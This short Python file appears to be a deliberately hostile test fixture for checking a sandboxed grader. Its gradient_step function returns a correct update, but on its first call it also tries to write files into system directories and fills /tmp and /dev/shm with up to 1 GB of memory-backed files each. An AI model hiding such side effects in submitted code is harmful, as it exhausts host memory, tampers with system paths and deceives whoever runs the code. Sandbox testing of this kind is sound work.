# HOSTILE: writes wherever it can inside its sandbox: the root, /etc, /root, /dev (bwrap's own
# tmpfs, its owner's inside), then fills /tmp and /dev/shm with 16 MB files up to 1 GB each. A
# tmpfs is the machine's memory, in no limit of the process (RLIMIT_FSIZE is per file).
import os

REPORTED = []


def _fill(folder):
    written = 0
    for i in range(64):
        try:
            fd = os.open(os.path.join(folder, f"gdkit-fill-{i}"), os.O_CREAT | os.O_WRONLY, 0o600)
        except OSError:
            break
        try:
            os.posix_fallocate(fd, 0, 16 << 20)
            written += 16
        except OSError:
            break
        finally:
            os.close(fd)
    return written


def gradient_step(v, gradient, step_size):
    if not REPORTED:
        wrote = []
        for folder in ("/", "/etc", "/root", "/dev", "/usr"):
            try:
                with open(os.path.join(folder, "gdkit-left-here"), "w") as stream:
                    stream.write("x")
                wrote.append(folder)
            except OSError:
                pass
        REPORTED.append(f"FILLED {_fill('/tmp')} {_fill('/dev/shm')} WROTE {' '.join(wrote)}")
        print(REPORTED[0])
    return [a + step_size * b for a, b in zip(v, gradient)]
